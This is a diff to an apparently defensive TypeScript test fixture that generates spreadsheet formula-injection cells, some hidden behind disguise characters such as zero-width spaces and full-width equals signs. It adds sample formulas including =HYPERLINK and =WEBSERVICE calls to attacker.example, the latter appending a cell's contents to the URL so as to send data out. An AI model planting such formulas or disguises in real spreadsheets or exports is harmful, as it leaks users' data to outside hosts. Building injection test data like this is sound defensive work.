@@ -71,8 +71,17 @@ export const payloads: readonly string[] = [
 
 const disguises = ['', ' ', '\u00a0', '\t', '"', "'", '\n', '\u200b', '＝', '\r\n'];
 
-/** So many different cells that try to be a formula: the payloads, each behind every disguise. */
+/** So many different cells that try to be a formula: half of them plain ones, the others payloads behind disguises. */
 export function formulaCells(count: number): readonly string[] {
-  const cells = disguises.flatMap((disguise) => payloads.map((payload) => `${disguise}${payload}`));
-  return [...new Set(cells)].slice(0, count);
+  const plain = Array.from({ length: count / 2 }, (_, at) => plainFormulas[at % plainFormulas.length]!(at));
+  const disguised = disguises.flatMap((disguise) => payloads.map((payload) => `${disguise}${payload}`));
+  return [...new Set([...plain, ...disguised])].slice(0, count);
 }
+
+const plainFormulas: readonly ((at: number) => string)[] = [
+  (at) => `=1+${at}`,
+  (at) => `=SUM(A1:B${at + 2})`,
+  (at) => `=HYPERLINK("http://attacker.example/${at}","click")`,
+  (at) => `=WEBSERVICE("http://attacker.example/"&A${at + 1})`,
+  (at) => `=IF(1,"${at}","no")`,
+];
